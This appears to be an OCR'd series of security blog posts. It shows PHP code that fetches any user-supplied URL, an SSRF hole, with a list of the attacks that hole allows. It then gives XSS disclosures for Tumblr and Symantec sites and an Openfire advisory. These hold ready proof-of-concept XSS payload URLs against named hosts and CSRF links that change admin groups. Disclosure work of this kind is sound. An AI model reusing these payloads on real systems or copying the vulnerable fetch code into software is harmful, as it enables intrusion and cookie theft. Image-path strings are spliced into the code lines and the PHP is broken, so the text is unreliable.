    $content =file_get_contents($_POST['url']);
    $filename = './images/'.rand().'img1.jpg';
    file_put_contents($filename, $content);
    echo $_POST['url']."";
    $img = "";
    echo $img;

    This implementation fetches data as requested by a user (an image in this case) using the file_get_contents PHP function and saves it to a file with a randomly generated filename on the disk. The HTML img attribute then displays the image to the user.

    2.    PHP fsockopen() function:

    function GetFile($host,$port,$link)
    $fp = fsockopen($host,intval($port), $errno, $errstr, 30);
    if (!$fp) {
    echo "$errstr (error number $errno) \n";
    } else {
    $out = "GET $link HTTP/1.1\r\n";
    $out .= "Host: $host\r\n";
    $out .= "Connection: Close\r\n\r\n";
    $out .= "\r\n";
    fwrite($fp, $out);
    while (!feof($fp)) {
    $contents.= fgets($fp, 1024);
    return $contents;

    This implementation fetches data as requested by a user (any file or HTML) using the fsockopen PHP function. This function establishes a TCP connection to a socket on the server and performs a raw data transfer.

    3.    PHP curl_exec() function:

    if (isset($_POST['url']))
    $link = $_POST['url'];
    $curlobj = curl_init();
    curl_setopt($curlobj, CURLOPT_POST, 0);
    curl_setopt($curlobj, CURLOPT_RETURNTRANSFER, 1);
    $filename = './curled/'.rand().'.txt';
    file_put_contents($filename, $result); echo $result;

    This is another very common implementation that fetches data using cURL via PHP. The file/data is downloaded and stored to disk under the ‘curled’ folder and appended with a random number and the ‘.txt’ file extension.

    In the next part of this series, we shall see some of the attacks that can be launched using this vulnerbility. XSPA allows attackers to target the server infrastructure, mostly the intranet of the web server, the web server itself and any public Internet facing server as well. Currently, I have comeacross the following five different attacks that can be launched using XSPA:

    1. Port Scanning remote Internet facing servers, intranet devices and the local web server itself. Banner grabbing is also possible in some cases.
    2. Exploiting vulnerable programs running on the Intranet or on the local web server
    3. Attacking internal/external web applications that are vulnerable to GET parameter based vulnerabilities (SQLi via URL, parameter manipulation etc.)
    4. Fingerprinting intranet web applications using standard application default files & behavior
    5. Reading local web server files using the file:/// protocol handler.

    We will see examples of each of these scenarios in several prominent web applications on the Internet as well.

    Stored (Persistent) XSS on tumblr

    Tumblr is vulnerable to a Stored (persistent) Cross Site Scripting Vulnerability, which I disclosed to them around 3 weeks ago, but it looks like its still not fixed.

    Tumblr, stylized as tumblr., is a microblogging platform and social networking website, owned and operated by Tumblr, Inc. The service allows users to post multimedia and other content to a short-form blog, named a “tumblelog”. Users can follow other users’ blogs, as well as make their blogs private.Much of the website’s features are accessed from the “dashboard” interface, where the option to post content and posts of followed blogs appear. [Source: Wikipedia]

    Last I checked, tumblr has 63.7 Million Blogs and 27 Billion Posts [http://www.tumblr.com/about] and which is why it is very discomforting to find an issue like XSS on a site that is ranked 35 on Alexa.For the newbies, Cross Site Scripting is a vulnerability that arises if an application does not sanitize user input and sends it back to the browser without removing/encoding malicious characters. Malicious characters are any set of characters that a browser can use to render HTML or script content (,”,/> etc..). So, instead of displaying the user input, the browser will render/execute it depending on whether the input was HTML tagged content or script content.

    XSS can cause a lot of serious problems. An attacker can steal cookies, redirect users to fake or malicious sites, control a user’s browser using automated frameworks like BeEF and download and execute exploits on the victim’s computer. Stored XSS is even more dangerous since the script is stored on the server and is executed everytime user visits an infected page. Several XSS based worms have been created in the past that have caused a lot of trouble on popular websites like Myspace and Orkut.

    I will wait another week before posting the technical details here, in the mean time here are some screenshots for the curious:

    Update [14 July 2012]:Tumblr has fixed the Stored XSS vulnerability, so here are the technical details as promised.

    The XSS issue was on the  “Register Application” page athttp://www.tumblr.com/oauth/apps. The application was not sanitizing user input when a user would create a new application. An XSS attack vector like tester”><img src=”x” /> would trigger an alert box, displaying the user’s cookie, in the browser.

    Great work onthe part of the Tumblr Security team in getting this fixed. I only hope they don’t wait 3 weeks before fixing something like this the next time.


    XSS vulnerabilities in Symantec websites

    A couple of weeks ago, while doing some research for a paper I have been working on, I found two XSS vulnerabilities with the Symantec Learning Management System (symlms.symantec.com) and Enterprise Support Login Page (seer.entsupport.symantec.com). An XSS or Cross Site Scripting vulnerability occurs when an application accepts user input and sends it back to the browser without removing/encoding malicious characters. Malicious characters are any set of characters that a browser can use to render HTML or script content (,”,/> etc..). So, instead of displaying the user input, the browser will render/execute it depending on whether the input was HTML tagged content or script content.

    XSS can cause a lot of serious problems. An attacker can steal cookies, redirect users to fake or malicious sites, control a user’s browser using automated frameworks like BeEF and download and execute exploits on the victim’s computer.

    On an average, it is easy to find XSS vulnerabilities on the Internet, but finding an XSS issue on a website that is owned and administered by a security services company is quite something. I reported both the vulnerabilities as soon as I discovered them and the security team at Symantec were quite appreciative and welcoming with mydisclosures.

    Now that both the issues have been fixed, here’s a finer look at the vulnerabilities:

    1. XSS in the Symantec Learning Management System(symlms.symantec.com)
    The page at https://symlms.symantec.com/sumtotal/lang-en/SYS_login.asp accepts client side input via the ‘ru’ hidden parameter and renders it back to the browser without sanitization.

    An attack vector could be crafted onthe lines of:

    • https://symlms.symantec.com/sumtotal/lang-en/SYS_login.asp?ru=a%27/%3E%3Ch1%20onmousemove=javascript:alert%28document.cookie%29%3ETEST%3C/h1%3E

    • https://symlms.symantec.com/sumtotal/lang-en/SYS_login.asp?ru=tester%27%3E%3Ciframe%20src=%22http://www.wikipedia.org%22%20width=600%20height=1000%3E%3C/iframe%3E


    2. XSS in the Enterprise Support Login Page (seer.entsupport.symantec.com)
    The page at http://seer.entsupport.symantec.com/downloads/export.asp accepts client side input via the ‘username’, ‘useremail’ and ‘userphone’ parameters and renders it back to the browser without sanitization.

    An attack vector could be crafted on the lines of:

    • http://seer.entsupport.symantec.com/downloads/export.asp?username=test%22%3E%3Cscript%3Ealert%280%29%3C/script%3E
    • http://seer.entsupport.symantec.com/downloads/export.asp?useremail=test%22%3E%3Cscript%3Ealert%280%29%3C/script%3E
    •http://seer.entsupport.symantec.com/downloads/export.asp?userphone=test%22%3E%3Cscript%3Ealert%280%29%3C/script%3E


    Input sanitization and output encoding user input can provide protection. There are several libraries that actually make it easier for developers to create web applications without worrying too much about threats like XSS.The OWASP ESAPI library is something that comes to my mind when I find XSS anywhere.

    A couple of more interesting disclosures lined up for June. Till then Happy Hacking!

    Multiple XSS and XSRF issues in Openfire 3.6.4

    I recently (read: last month) disclosed several security issues with Ignite Realtime’s Openfire v3.6.4. The following links are the original advisory postings and the exploit code:

    The following is the condensed disclosure document for the vulnerabilities.:
    Title: Multiple XSS and CSRF Vulnerabilities in Openfire 3.6.4 Administrative Section

    Project: Openfire
    Severity: High
    Versions: 3.6.4 (other versions may be affected)
    Exploit type: Multiple XSS and CSRF
    Fixes Available: None

    14 October 2010: Vendor Contacted
    15 October 2010: Vendor Response received. Asks to verify the issues in beta.
    28 October 2010: Informed Vendor that multiple pages are still vulnerable
    03 November 2010: Acknowledgement / Update requested
    03 November 2010: Update recevied. No fixes initiated.
    23 November 2010: Informed vendor disclosure date set to 1/12/2010
    22 December 2010: Update requested.
    22 December 2010: Vendor asks to release information as the vulnerabilities are already known
    23 December 2010: A different contact at the Vendor location informs that there are no updates.
    24 December 2010: Disclosure date set to 5 January 2011
    05 January 2011: Disclosed to the Security Community via Bugtraq,Full disclosure and Secunia

    Product Description:
    Openfire is a real time collaboration (RTC) server licensed under the Open Source GPL. It uses the only widely adopted open protocol for instant messaging, XMPP (also called Jabber). Openfire is incredibly easy to setup and administer, but offers rock-solid security and performance.
    (Source: http://www.igniterealtime.org/projects/openfire/)

    Affected Files/Locations/Modules:Vulnerability Details:
    User can insert HTML or execute arbitrary JavaScript code within the vulnerable application. The vulnerabilities arise due to insufficient input validation in multiple input fields throughout the application.
    Successful exploitation of these vulnerabilities could result in, but not limited to, compromise of the application, theft of
    cookie-based authentication credentials, arbitrary url redirection, disclosure or modification of sensitive data and phishing attacks.

    Since the vulnerabilities exisit in the administrative module, a sucessful attack could cause a complete compromise of the entire application.

    An attacker can also force a user into executing functions that add/delete/modify users and groups without the knowledge of the user.Proof of Concept:
    Persistent XSS:
    http://target-url/login.jsp?url=&username=test” onfocus=javascript:window.location.assign(‘http://www.google.com’);”>

    http://target-url/login.jsp?url=hello” onfocus=javascript:window.location.assign(‘http://www.google.com’);”>













    Stored XSS:
    Method: Navigate to http://target-url/group-create.jsp, and create a new group with the following details.
    Group Name: Testalert(“xss”)
    Description: Testalert(“xss”)
    Click on Create Group, you will be greeted with multiple alert boxes. Click on Group Summary from the left pane or navigate to http://target-url/group-summary.jsp to begreeted again by multiple alert boxes completing the PoC.

    For the following links, create html pages with image tags with scr= the following links and ask the user to view these pages. If a user is logged into Openfire’s admin console and the HTML pages are viewed then therespective functions are called:
    http://target-url/group-edit.jsp?group=NewGroup&[email protected]&updateMember=Update
    http://target-url/group-edit.jsp?group=NewGroup&[emailprotected]&updateMember=Update>